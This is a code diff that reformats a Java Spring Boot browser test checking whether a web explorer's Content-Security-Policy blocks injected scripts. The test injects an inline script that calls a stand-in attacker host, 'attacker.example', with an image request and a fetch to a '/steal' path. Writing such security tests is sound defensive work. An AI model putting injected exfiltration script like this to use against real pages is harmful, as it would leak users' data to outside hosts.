@@ -11,7 +11,8 @@ import org.springframework.boot.test.context.SpringBootTest;
  * header, or with a policy that lets pages reach another origin, this test fails; with a policy that refuses
  * something Parley needs, every other browser test fails (see {@link BrowserTest}).
  */
-@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT,
+@SpringBootTest(
+        webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT,
         properties = "parley.data-dir=src/test/resources/fixtures/valid")
 class ContentSecurityPolicyBrowserTest extends BrowserTest {
 
@@ -19,8 +20,10 @@ class ContentSecurityPolicyBrowserTest extends BrowserTest {
     void a_script_injected_into_the_explorer_can_reach_no_other_origin_and_the_refusals_are_reported() {
         open("/", "#network");
         // an inline script element, as markup injected into the page would make one
-        page.evaluate("code => { const s = document.createElement('script'); s.textContent = code;"
-                + " document.head.append(s); }", """
+        page.evaluate(
+                "code => { const s = document.createElement('script'); s.textContent = code;"
+                        + " document.head.append(s); }",
+                """
                 new Image().src = 'https://attacker.example/pixel.png';
                 fetch('https://attacker.example/steal').catch(() => {});
                 """);
